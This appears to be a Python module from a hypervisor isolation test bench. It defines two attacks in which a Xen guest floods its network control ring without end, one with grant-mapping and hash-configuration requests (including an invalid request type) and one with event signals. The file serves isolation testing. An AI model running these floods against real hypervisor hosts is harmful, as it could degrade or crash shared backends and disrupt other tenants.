"""Attacks on a vif's control ring (Xen's io/netif.h), by a guest that has one, since its grants are persistent."""

from collections.abc import Sequence
from typing import Final

from bench.isolation.attack import Door, attack
from bench.isolation.attacker import Attacker
from bench.isolation.drivers import array_at, signal
from domu.frontends.split_mappings import SLOTS, Mappings
from hyp.abi.grant import PAGE_BYTES
from hyp.abi.netif import (
    CTRL_REQUEST,
    CTRL_TYPE_ADD_GREF_MAPPING,
    CTRL_TYPE_DEL_GREF_MAPPING,
    CTRL_TYPE_GET_GREF_MAPPING_SIZE,
    CTRL_TYPE_SET_HASH_ALGORITHM,
    CTRL_TYPE_SET_HASH_MAPPING,
    CTRL_TYPE_SET_HASH_MAPPING_SIZE,
    GREF,
)
from hyp.abi.ring import FIRST_SLOT, REQ_PROD, RSP_PROD

WITH_A_RING: Final = {"grants": "persistent"}
EVERY: Final = PAGE_BYTES // GREF.itemsize
"""As many pages as one request can speak of."""


class _ControlRing:
    """What its front end has set up."""

    def __init__(self, a: Attacker) -> None:
        self._mappings = next(one for one in a.guest.device.keep if isinstance(one, Mappings))
        self.table_ref = self._mappings.table_ref
        self._words = array_at(self._mappings.sring, "<u4", 16)
        self._slots = array_at(self._mappings.sring + FIRST_SLOT, CTRL_REQUEST, SLOTS)

    def fill(self, requests: Sequence[tuple[int, ...]]) -> int:
        """Ask for as many of these, one after the other, as there is room for, and say so. How many."""
        asked = int(self._words[REQ_PROD // 4])
        room = SLOTS - (asked - int(self._words[RSP_PROD // 4])) % (1 << 32)
        for number in range(asked, asked + room):
            kind, *data = requests[number % len(requests)]
            self._slots[number % SLOTS] = (number & 0xFFFF, kind, data)
        self._words[REQ_PROD // 4] = (asked + room) % (1 << 32)
        self.notify()
        return room

    def notify(self) -> None:
        signal(self._mappings.event_fd)


@attack("has its pages unmapped and mapped on its control ring, without end", Door.RINGS, paths=("split",), guest=WITH_A_RING)
def control_requests_without_end(a: Attacker) -> None:
    ring = _ControlRing(a)
    table = (0, ring.table_ref, EVERY)
    requests = [
        (CTRL_TYPE_DEL_GREF_MAPPING, *table),
        (CTRL_TYPE_ADD_GREF_MAPPING, *table),
        (CTRL_TYPE_GET_GREF_MAPPING_SIZE, 0, 0, 0),
        (CTRL_TYPE_SET_HASH_ALGORITHM, 1, 0, 0),
        (CTRL_TYPE_SET_HASH_MAPPING_SIZE, 128, 0, 0),
        (CTRL_TYPE_SET_HASH_MAPPING, ring.table_ref, 128, 0),
        (0xFFFF, 0, 0, 0),
    ]
    while a.goes_on(ring.fill(requests)):
        pass


@attack("sends its control ring's event without end, and asks for nothing", Door.RINGS, paths=("split",), guest=WITH_A_RING)
def control_events_without_end(a: Attacker) -> None:
    ring = _ControlRing(a)
    while a.goes_on():
        ring.notify()
